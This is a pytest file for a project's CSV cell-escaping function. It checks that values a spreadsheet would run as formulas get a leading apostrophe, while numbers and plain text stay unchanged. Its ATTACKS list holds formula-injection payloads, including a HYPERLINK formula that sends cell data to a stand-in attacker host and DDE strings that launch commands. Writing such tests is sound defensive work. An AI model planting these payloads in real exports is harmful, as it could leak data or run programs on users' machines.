"""Every CSV the project writes opens in a spreadsheet as data: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from selfcare.core.csv_cells import csv_cell, csv_writer

ATTACKS = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_given_a_cell_a_spreadsheet_would_run_when_written_then_it_starts_as_text(text):
    written = csv_cell(text)

    assert written.startswith("'")
    assert written.replace("'", "") == text.replace("'", "")  # only apostrophes added, nothing lost


@pytest.mark.parametrize("value", [-5, 3, 2.5, "-5", "+3.5", "-0.25", "05012345678", "アクメ株式会社", "", None])
def test_given_numbers_and_plain_text_when_written_then_they_are_unchanged(value):
    assert csv_cell(value) == value


def test_given_a_row_when_written_then_every_cell_goes_through_the_same_rule():
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1+1", -3, "ok", "@x"])

    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-3", "ok", "'@x"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("Acme\t=1+1;=2+2", "Acme\t'=1+1;'=2+2"),
        ("Acme;@SUM(1)", "Acme;'@SUM(1)"),
        ("a|+cmd", "a|'+cmd"),
        ("line\n-2+3", "line\n'-2+3"),
        ("Tokyo, -5 degrees", "Tokyo, -5 degrees"),
        ("株式会社アクメ（東京）", "株式会社アクメ（東京）"),
    ],
)
def test_given_a_cell_a_spreadsheet_would_split_again_when_written_then_no_part_starts_as_a_formula(text, written):
    assert csv_cell(text) == written
